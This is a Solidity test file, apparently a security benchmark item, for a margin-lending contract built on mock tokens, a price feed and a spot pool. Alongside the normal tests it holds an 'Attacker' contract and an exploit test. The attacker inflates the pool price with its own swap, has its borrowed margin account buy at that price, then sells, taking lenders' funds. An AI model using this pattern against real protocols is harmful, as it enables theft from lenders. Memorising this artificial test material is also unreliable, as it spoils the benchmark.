// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.30;

import "./MarginAccounts.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-91c274ab-8161-4336-84f3-56549457d966

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
}

contract Usd is ERC20 {
    constructor() ERC20("Usd", "USD") {
        _mint(msg.sender, 2_000_000e6);
    }
}

contract Btc is ERC20 {
    constructor() ERC20("Btc", "BTC") {
        _mint(msg.sender, 10e8);
    }
}

contract Feed is IPriceFeed {
    uint256 public price = 100_000e6;
    address private immutable keeper = msg.sender;

    function set(uint256 price_) external {
        require(msg.sender == keeper, "keeper only");
        price = price_;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant LENDER = address(0x1E2);
    address internal constant ANA = address(0xA9A);
    address internal constant KEEPER = address(0x4EE);

    Usd internal usd;
    Btc internal btc;
    Feed internal feed;
    SpotPool internal pool;
    MarginAccounts internal margin;
    Attacker internal mallory;

    function setUp() public {
        usd = new Usd();
        btc = new Btc();
        feed = new Feed();
        pool = new SpotPool(usd, btc);
        usd.transfer(address(pool), 200_000e6);
        btc.transfer(address(pool), 2e8);
        margin = new MarginAccounts(pool, feed);
        usd.transfer(LENDER, 200_000e6);
        usd.transfer(ANA, 50_000e6);
        usd.transfer(KEEPER, 50_000e6);
        vm.startPrank(LENDER);
        usd.approve(address(margin), type(uint256).max);
        margin.lend(150_000e6);
        vm.stopPrank();
        vm.prank(ANA);
        usd.approve(address(margin), type(uint256).max);
        vm.prank(KEEPER);
        usd.approve(address(margin), type(uint256).max);
        mallory = new Attacker(margin, pool);
        usd.transfer(address(mallory), 310_000e6);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        margin.deposit(5_000e6);
        margin.borrow(10_000e6);
        (uint256 dollars, , uint256 debt) = margin.accountOf(ANA);
        require(dollars == 15_000e6 && debt == 10_000e6 && margin.idle() == 140_000e6, "borrowed");
        uint256 coins = margin.trade(true, 12_000e6, 0.11e8);
        require(coins == uint256(2e8 * 12_000) / 212_000 && margin.isCovered(ANA), "bought");
        margin.withdraw(1_000e6, 0.01e8);
        require(usd.balanceOf(ANA) == 46_000e6 && btc.balanceOf(ANA) == 0.01e8, "withdrawn");
        uint256 back = margin.trade(false, coins - 0.01e8, 0);
        margin.repay(5_000e6);
        (dollars, coins, debt) = margin.accountOf(ANA);
        require(dollars == 2_000e6 + back - 5_000e6 && coins == 0 && debt == 5_000e6, "sold and repaid");

        // the coin falls and a keeper takes an account over
        coins = margin.trade(true, 5_000e6, 0);
        vm.stopPrank();
        feed.set(40_000e6);
        require(!margin.isCovered(ANA), "not covered");
        vm.prank(KEEPER);
        margin.takeOver(ANA);
        (, uint256 held, ) = margin.accountOf(KEEPER);
        require(held == coins && usd.balanceOf(KEEPER) == 45_000e6 && margin.idle() == 150_000e6, "taken over");
        vm.startPrank(LENDER);
        margin.takeBack(150_000e6);
        margin.lend(1);
        require(usd.balanceOf(LENDER) == 200_000e6 - 1 && margin.lentBy(LENDER) == 1, "lender");
        vm.stopPrank();
    }

    function test_RefusesAccountsThatAreNotCovered() public {
        vm.startPrank(ANA);
        margin.deposit(1_000e6);
        margin.borrow(10_000e6);
        vm.expectRevert(abi.encodeWithSelector(MarginAccounts.NotCovered.selector, ANA));
        margin.borrow(1e6);
        vm.expectRevert(abi.encodeWithSelector(MarginAccounts.NotCovered.selector, ANA));
        margin.withdraw(1, 0);
        vm.stopPrank();
        vm.prank(KEEPER);
        vm.expectRevert(abi.encodeWithSelector(MarginAccounts.StillCovered.selector, ANA));
        margin.takeOver(ANA);
    }

    function test_RefusesPrices() public {
        vm.startPrank(ANA);
        margin.deposit(20_000e6);
        vm.expectRevert(abi.encodeWithSelector(SpotPool.BelowMinimum.selector, 0.18181818e8, 0.2e8));
        margin.trade(true, 20_000e6, 0.2e8);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(mallory));
        exploit();
        require(usd.balanceOf(address(mallory)) >= before + 60_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(margin);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Makes the coin dear, lets a borrowed account buy it, and sells its own.
contract Attacker {
    MarginAccounts internal margin;
    SpotPool internal pool;

    constructor(MarginAccounts margin_, SpotPool pool_) {
        margin = margin_;
        pool = pool_;
    }

    function run() external {
        IERC20 usd = pool.dollar();
        usd.approve(address(margin), type(uint256).max);
        usd.approve(address(pool), type(uint256).max);
        pool.coin().approve(address(pool), type(uint256).max);
        margin.deposit(10_000e6);
        margin.borrow(90_000e6);
        uint256 coins = pool.swap(true, 300_000e6, 0);
        margin.trade(true, 100_000e6, 0);
        pool.swap(false, coins, 0);
    }
}
